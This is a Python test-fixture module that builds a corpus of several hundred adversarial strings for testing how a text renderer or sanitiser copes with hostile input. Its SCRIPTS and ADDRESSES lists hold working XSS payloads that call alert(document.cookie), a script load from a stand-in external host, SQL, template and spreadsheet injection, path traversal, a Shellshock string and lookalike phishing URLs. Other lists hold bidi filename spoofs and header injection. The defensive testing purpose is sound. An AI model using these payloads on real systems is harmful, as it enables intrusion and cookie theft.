"""Text that tries to be more than text: at least 300 pieces, made of lists and a little code.

What they try is in the name of each part. What they say is gentle, and nobody in them is real.
"""

from itertools import product

CALM = "The kettle is on."
LONGEST = 20_000

_ELEMENTS = (
    "script", "img", "svg", "iframe", "object", "embed", "video", "audio", "style", "link", "meta", "base", "form",
    "input", "button", "textarea", "details", "marquee", "math", "template", "noscript", "plaintext", "xmp", "title",
)  # fmt: skip
_HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "OnErRoR")
_QUOTES = ('"', "'", "`", "")
_CALL = "alert(document.cookie)"

SCRIPTS = (
    *(f"<{element} src=x onerror={_CALL}>{CALM}</{element}>" for element in _ELEMENTS),
    *(f"<b {name}={quote}{_CALL}{quote}>{CALM}</b>" for name, quote in product(_HANDLERS, _QUOTES)),
    f"<script>{_CALL}</script>", f"<SCRIPT SRC=//elsewhere.example/x.js></SCRIPT>{CALM}",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"<svg/onload={_CALL}>", f"<svg><script>{_CALL}</script></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<math><mtext></p><img src=x onerror={_CALL}></mtext></math>",
    f"<iframe srcdoc='<script>{_CALL}</script>'></iframe>",
    f"<a href='javascript:{_CALL}'>{CALM}</a>", f"<form action='javascript:{_CALL}'><button>{CALM}</button></form>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'></p></noscript>",
    f"<!--><img src=x onerror={_CALL}>-->",
    f"<![CDATA[<script>{_CALL}</script>]]>", f"<?php echo '<script>{_CALL}</script>'; ?>",
    f"\x3cimg src=x:x onerror\x3d{_CALL}\x3e",
    f"<style>@import url(https://elsewhere.example/x.css);</style>{CALM}", "<style>*{display:none}</style>" + CALM,
    f"<p style='position:fixed;inset:0;background:url(https://elsewhere.example/x)'>{CALM}</p>",
    f"<meta http-equiv=refresh content='0;url=https://elsewhere.example/'>{CALM}",
    f"<base href=https://elsewhere.example/>{CALM}",
    f"<link rel=stylesheet href=https://elsewhere.example/x.css>{CALM}", f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"&#60;script&#62;{_CALL}&#60;/script&#62;", f"%3Cscript%3E{_CALL}%3C/script%3E", f"\\u003cscript\\u003e{_CALL}",
    f"＜script＞{_CALL}＜/script＞", f"+ADw-script+AD4-{_CALL}+ADw-/script+AD4-", f"{{{{ {_CALL} }}}}",
    "{% include '/etc/hostname' %}",
    "{{ config.items() }}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "'; DROP TABLE posts; --", '" OR "1"="1',
    "../../../../etc/hostname",
    "%s%s%s%n", "{0.__class__}", "() { :; }; echo", "=1+1", "@SUM(1)", "-1+1|' /C calc'!A0",
)  # fmt: skip

BROKEN = (
    *("<" * n + CALM for n in (1, 2, 200)), *(CALM + ">" * n for n in (1, 200)),
    "</p></article></main></body></html>" + CALM,
    "</textarea></title></style></script>" + CALM, "<p><p><p>" + CALM, "<b><i></b></i>" + CALM,
    "<table><tr><td>" + CALM,
    "<a href='" + CALM, '<img src="' + CALM, "<!-- " + CALM, "<![CDATA[ " + CALM, "<div" * 500 + CALM,
    "</div>" * 500 + CALM,
    "&" * 300 + CALM, "&#0;" + CALM, "&#x110000;" + CALM, "&nosuchname;" + CALM, "&amp" * 50 + CALM, "\\" * 300 + CALM,
    "*" * 500 + CALM, "_" * 500 + CALM, "**" * 200 + CALM + "*" * 3, "`" * 301 + CALM, "> " * 300 + CALM,
    "- " * 120 + CALM,
    "1. " * 120 + CALM, "999999999999. " + CALM, "\n".join(f"{'  ' * n}- {CALM}" for n in range(60)), "[" * 400 + CALM,
    "[x](" * 200 + CALM, "![x]" * 200 + CALM, "[x]: https://elsewhere.example\n[x]", "***bold* and**" + CALM,
    "# " + CALM,
    "| a | b |\n|---|---|\n| c | d |", "```\n" + CALM, "    " + CALM, "---\n" + CALM + "\n===", "\n" * 300 + CALM,
    "\\\n" * 100 + CALM,
    "*_*_" * 300 + CALM, "<" + "a" * 5000 + ">" + CALM, "\t" * 200 + CALM, "* " + "\n* " * 200 + CALM,
)  # fmt: skip

ADDRESSES = tuple(
    f"[{CALM}]({address})" for address in (
        f"javascript:{_CALL}", f"JaVaScRiPt:{_CALL}", f"java\tscript:{_CALL}", f"\x01javascript:{_CALL}",
        f"javascript&colon;{_CALL}",
        f"vbscript:{_CALL}", "data:text/html,<script>1</script>", "data:image/svg+xml,<svg onload=1>",
        "file:///etc/hostname",
        "//elsewhere.example", "\\\\elsewhere.example", "https:elsewhere.example", "https://elsewhere.example",
        "http://elsewhere.example",
        "https://www.samaritans.org@elsewhere.example/", "https://www.samaritans.org.elsewhere.example/",
        "https://www.samaritans.org%2eelsewhere.example/",
        "https://elsewhere.example\\@www.samaritans.org", "https://www.samaritans.org:80/", "ftp://elsewhere.example/",
        "blob:https://elsewhere.example/1",
        "mailto:somebody@elsewhere.example", "tel:+440000000000", "sms:+440000000000",
        "https://xn--samaritns-9za.example/", "https://sаmaritans.org/",
        "/sign-out/", "?leave", "#main", "https://[::1]/", "https://127.0.0.1/", "https://2130706433/", "about:blank",
        "view-source:https://elsewhere.example",
    )
)  # fmt: skip

# Directions: overrides, embeddings and isolates, opened and never closed; marks; words of scripts that run to the left.
_TURNS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
BIDI = (
    *(f"{turn}{CALM}" for turn in _TURNS), *(f"{CALM} {turn}abc 123" for turn in _TURNS),
    *(turn * 200 + CALM for turn in _TURNS),
    "\u202eno eltek eht\u202c", "file\u202egnp.exe", "\u2067" * 130 + CALM, "\u2066\u2067\u2068" * 60 + CALM + "\u2069",
    "שלום, הקומקום רותח.", "مساء الخير، الشاي جاهز.", "abc שלום 123 مساء (x)", "(שלום", "12:30 — שלום!", "ܫܠܡܐ",
    "ދިވެހި", "𐤔𐤋𐤌",
)  # fmt: skip

_ALIKE = {
    "Cyrillic": "Тhе kеttlе іs оn.", "Greek": "Τhe κettle ιs οn.", "Cherokee": "Ꭲhe kettle ᎥᏚ on.",
    "wide": "Ｔｈｅ ｋｅｔｔｌｅ.",
    "bold": "𝐓𝐡𝐞 𝐤𝐞𝐭𝐭𝐥𝐞.", "script": "𝓣𝓱𝓮 𝓴𝓮𝓽𝓽𝓵𝓮.", "Fraktur": "𝕿𝖍𝖊 𝖐𝖊𝖙𝖙𝖑𝖊.", "double": "𝕋𝕙𝕖 𝕜𝕖𝕥𝕥𝕝𝕖.",
    "mono": "𝚃𝚑𝚎 𝚔𝚎𝚝𝚝𝚕𝚎.",
    "circled": "Ⓣⓗⓔ ⓚⓔⓣⓣⓛⓔ.", "squared": "🅃🄷🄴 🄺🄴🅃🅃🄻🄴.", "small": "ᴛʜᴇ ᴋᴇᴛᴛʟᴇ.", "upside down": "ǝlʇʇǝʞ ǝɥ┴",
    "raised": "ᵗʰᵉ ᵏᵉᵗᵗˡᵉ",
    "in brackets": "⒯⒣⒠ ⒦⒠⒯⒯⒧⒠", "flags": "🇹🇭🇪", "marks": "T̲h̲e̲ k̲e̲t̲t̲l̲e̲", "a team": "Ноldfаst Тeam",
    "a role": "Mоdеrator ✓", "ticked": "Ada ☑️ 🛡️",
}  # fmt: skip
HOMOGLYPHS = tuple(_ALIKE.values())

_MARKS = "".join(chr(point) for point in range(0x300, 0x370))
ZALGO = (
    *("".join(letter + _MARKS[:n] for letter in CALM) for n in (3, 10, 40, 100)), "a" + _MARKS * 40,
    "e" + "\u0301" * 2000,
    *(CALM + mark * 300 for mark in "\u0300\u0327\u0334\u0338\u0489\u20dd\u20e0\u20e3"),
    *(mark + CALM for mark in "\u0300\u20dd\u0489"),
    "ก" + "็" * 500, "ส็็็็็็็็็็็็็็็็็็็็", "ཀ" + "ྵ" * 300, "\u0d15" + "\u0d4d\u0d15" * 300, "﷽" * 60, "꧅" * 60,
    "𒐫" * 60, "⸻" * 120, "𒈙" * 60,
)  # fmt: skip

_NOTHING = "\u00ad\u034f\u115f\u1160\u17b4\u180e\u200b\u200c\u200d\u2060\u2061\u2064\u3164\ufe0f\ufeff\uffa0\u2800"
_NOT_TEXT = (
    0x00, 0x01, 0x07, 0x08, 0x0B, 0x0C, 0x1B, 0x7F, 0xFFF9, 0xFFFC, 0xFFFD, 0xFFFE, 0x1FFFE, 0xE0001, 0xE0041, 0x10FFFF,
)  # fmt: skip
UNSEEN = (
    *(f"The ket{mark}tle is on." for mark in _NOTHING),
    *(f"{CALM}{mark * 300}" for mark in "\u200b\u200c\u200d\u00a0\u2003\u3000\ufe0f\u2028\u2029\u0085\u00ad"),
    *(f"{CALM[:5]}{chr(point)}{CALM[5:]}" for point in _NOT_TEXT),
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\r\nSet-Cookie: a=b", "a\rb\x0bc\x0cd",
    "\ud800 alone".encode("utf-8", "ignore").decode() + " half",
)  # fmt: skip

LONG = (
    *(letter * LONGEST for letter in "aWi1.-_/\\|=@é字あ한ก😀"), "https://" + "a" * 5000 + ".example/", "a/" * 5000,
    "a." * 5000, "a-" * 5000,
    "&shy;" * 2000, "ab\u00a0" * 3000, "\u2060".join("a" * 5000), "Donaudampfschiff" * 400, "(((" * 3000,
    "0" * 5000 + "." + "0" * 5000,
)  # fmt: skip

_EMOJI = ("😀", "❤️", "👩‍👩‍👧‍👦", "👋🏽", "🏳️‍🌈", "🇬🇧", "1️⃣", "🧑🏿‍🤝‍🧑🏻", "🫥", "☕️")
EMOJI = (
    *(one * n for one, n in product(_EMOJI, (40, 2000))), "".join(_EMOJI) * 200, "😀\u200d" * 2000, "🏽" * 500,
    "\U0001f1e6" * 501, "👩" + "\u200d👩" * 800,
    "\u20e3" * 200, "❤" + "\ufe0f" * 900, "\n".join("😀" for _ in range(300)), "🏴" + "\U000e0067" * 300 + "\U000e007f",
)  # fmt: skip

PARTS = {
    "scripts": SCRIPTS, "broken": BROKEN, "addresses": ADDRESSES, "bidi": BIDI, "homoglyphs": HOMOGLYPHS,
    "zalgo": ZALGO, "unseen": UNSEEN, "long": LONG,
    "emoji": EMOJI,
}  # fmt: skip
CORPUS = tuple(dict.fromkeys(text for part in PARTS.values() for text in part))
